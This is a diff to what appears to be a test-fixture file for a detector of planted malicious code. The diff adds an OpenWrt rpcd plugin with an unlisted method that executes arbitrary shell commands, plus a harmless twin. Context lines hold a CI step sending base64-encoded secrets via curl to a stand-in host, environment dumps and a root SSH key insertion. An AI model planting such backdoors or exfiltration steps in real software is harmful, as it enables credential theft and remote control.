@@ -34,6 +34,10 @@ FLOW = (
     "jobs:\n  a:\n    steps:\n      - env:\n          C: %s\n"
     '        run: printf %%s "$C" | base64 -w0 | curl -s --data-binary @- https://a.example/w\n'
 )
+RPCD = (
+    '#!/bin/sh\ncase "$1" in\n\tlist)\n\t\techo \'{"signal":{}}\'\n\t\t;;\n\tcall)\n'
+    '\t\tcase "$2" in\n\t\t\t%s) json_get_var t t; sh -c "$t" ;;\n\t\tesac\n\t\t;;\nesac\n'
+)
 ONE = "secrets.T"
 LOGS = "runs:\n  steps:\n    - env:\n        T: ${{ %s }}\n      run: %s\n"
 KEY = '- name: a\n  ansible.posix.authorized_key:\n    user: root\n    key: "{{ %s }}"\n'
@@ -56,6 +60,7 @@ PLANTS: tuple[Plant, ...] = (
      "downloads and runs", "when the folder is opened"),
     ("build_step", ".github/workflows/a.yml", FLOW % "${{ toJSON(secrets) }}",
      "collects and sends", "all secrets of the workflow"),
+    ("rpcd_plugin", "usr/libexec/rpcd/a", RPCD % "fcal", "runs commands", "does not list"),
     ("build_step", "action.yml", LOGS % (ONE, 'echo "ready $(env | base64 -w0)"'),
      "collects and sends", "prints all variables of the build, encoded"),
     ("build_step", "action.yml", LOGS % ("toJSON(secrets)", "printf %s $T | sort | rev"),
@@ -68,6 +73,7 @@ PLANTS: tuple[Plant, ...] = (
      "a password by its name"),
 )  # fmt: skip
 TWINS = (
+    ("rpcd_plugin", "usr/libexec/rpcd/a", RPCD % "signal"),
     ("build_step", ".github/workflows/a.yml", FLOW % "${{ github.sha }}"),
     *(
         ("build_step", "action.yml", LOGS % (ONE, command))
